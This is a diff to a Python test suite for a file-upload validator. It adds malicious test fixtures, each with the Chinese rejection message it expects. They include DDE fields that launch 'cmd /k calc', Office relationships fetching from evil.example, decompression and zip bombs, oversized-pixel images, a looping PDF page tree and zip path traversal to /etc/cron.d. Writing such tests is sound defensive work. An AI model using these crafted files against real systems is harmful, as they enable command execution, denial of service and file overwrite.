@@ -46,6 +46,35 @@ def encrypted(content):
     return bytes(data)
 
 
+def relation(kind):
+    return (
+        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{kind}" Target="http://evil.example/x" TargetMode="External"/></Relationships>'
+    )
+
+
+def with_chunk(kind, data):
+    """A PNG with one chunk more behind its header."""
+    content = picture("PNG")
+    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return content[:33] + chunk + content[33:]
+
+
+def overlapping():
+    """A package of one large part that its directory names two hundred times."""
+    content = office("word", **{"word/a.xml": b"<x>" + b"a" * 4_000_000 + b"</x>"})
+    end = content.rfind(b"PK\x05\x06")
+    size, start = struct.unpack("<II", content[end + 12 : end + 20])
+    count = struct.unpack("<H", content[end + 8 : end + 10])[0] * 200
+    return (
+        content[:start]
+        + content[start : start + size] * 200
+        + content[end : end + 8]
+        + struct.pack("<HHII", count, count, size * 200, start)
+        + content[end + 20 :]
+    )
+
+
 RELATION = (
     '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
     'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
@@ -61,13 +90,17 @@ TEMPLATE = {"word/_rels/settings.xml.rels": RELATION}
 WIDE = {"word/styles.xml": ENTITY.encode("utf-16")}
 SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+INFLATED = b"x\x00\x00" + zlib.compress(b"\x00" * 30_000_000, 9)
+DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+DDE_FIELD = '<w:document><w:instrText xml:space="preserve"> DDEAUTO cmd "/k calc"</w:instrText></w:document>'
+RELATIONS_OF = "word/_rels/document.xml.rels"
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
 
 HOSTILE = {
     # Pictures.
     "no bytes": ("a.jpg", b"", "图片文件是空的"),
     "one byte too many": ("a.jpg", picture() + b"\x00" * 15 * MEGABYTE, "不能超过15 MB"),
-    "pixel bomb": ("a.png", png_that_says(60_000, 60_000), "万像素"),
+    "pixel bomb": ("a.png", png_that_says(60_000, 60_000), "超过1亿像素"),
     "many pixels": ("a.png", png_that_says(5_000, 4_001), "2000 万像素"),
     "truncated jpeg": ("a.jpg", picture(size=(400, 400))[:1500], "没有传完整"),
     "truncated webp": ("a.webp", picture("WEBP", size=(400, 400))[:60], "图片"),
@@ -80,6 +113,17 @@ HOSTILE = {
     "moving png": ("a.png", moving("PNG"), "动图"),
     "picture and archive": ("a.png", picture("PNG") + archive(x="y"), "藏着别的文件"),
     "picture and pdf": ("a.jpg", picture(comment=PDF), "藏着别的文件"),
+    "profile that unpacks to much": ("a.png", with_chunk(b"iCCP", INFLATED), "不是可用的图片"),
+    "text that unpacks to much": ("a.png", with_chunk(b"zTXt", INFLATED), "不是可用的图片"),
+    "tiff called jpg": ("a.jpg", picture("TIFF"), "不是可用的图片"),
+    "truncated avif": ("a.avif", picture("AVIF", size=(300, 300))[:-50], "没有传完整"),
+    "heic that promises more": (
+        "a.heic",
+        picture("HEIF", size=(300, 300)).replace(
+            struct.pack(">II", 300, 300), struct.pack(">II", 60000, 60000)
+        ),
+        "超过1亿像素",
+    ),
     # Documents.
     "empty document": ("a.pdf", b"", "文件是空的"),
     "document one byte too large": ("a.txt", b"x" * (20 * MEGABYTE + 1), "不能超过20 MB"),
@@ -133,6 +177,30 @@ HOSTILE = {
         office("word", **WIDE),
         "外部实体",
     ),
+    "workbook elsewhere": (
+        "a.xlsx",
+        office("xl", **{"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath")}),
+        "外部模板",
+    ),
+    "page from elsewhere inside": (
+        "a.docx",
+        office("word", **{RELATIONS_OF: relation("aFChunk")}),
+        "外部对象",
+    ),
+    "picture that tells who opens it": (
+        "a.docx",
+        office("word", **{RELATIONS_OF: relation("image")}),
+        "外部对象",
+    ),
+    "program behind a cell": (
+        "a.xlsx",
+        office("xl", **{"xl/externalLinks/externalLink1.xml": DDE_LINK}),
+        "DDE",
+    ),
+    "program behind a field": ("a.docx", office("word", **{"word/header1.xml": DDE_FIELD}), "DDE"),
+    "parts that lie upon each other": ("a.docx", overlapping(), "解开后太大"),
+    "pages in a circle": ("a.pdf", PDF.replace(b"Kids[3 0 R]", b"Kids[2 0 R]"), "已损坏"),
+    "nothing in a cell": ("a.csv", b"a,b\x00\n", "不符"),
     "way out": ("a.docx", office("word", **{"../../etc/cron.d/x": "x"}), "指向别处"),
     "way out by backslash": ("a.docx", office("word", **{"..\\..\\x": "x"}), "指向别处"),
     "way to the root": ("a.docx", office("word", **{"/etc/passwd": "x"}), "指向别处"),
@@ -143,6 +211,8 @@ HOSTILE = {
     "program called csv": ("a.csv", b"MZ\x90\x00" + b"\x00" * 500, "不符|程序"),
 }
 HARMLESS = {
+    "a table in wide letters": ("a.csv", "姓名,金额\n张三,1\n".encode("utf-16")),
+    "a picture with a program behind it, which goes": ("a.jpg", picture() + b"<script>alert(1)</script>"),
     "a link": ("a.docx", office("word", **{"word/_rels/document.xml.rels": LINK})),
     "an invoice with its data": ("a.pdf", pdf(b"/Names<</EmbeddedFiles<</Names[]>>>>")),
     "a pdf that opens at a place": ("a.pdf", pdf(b"/OpenAction[3 0 R/Fit]")),
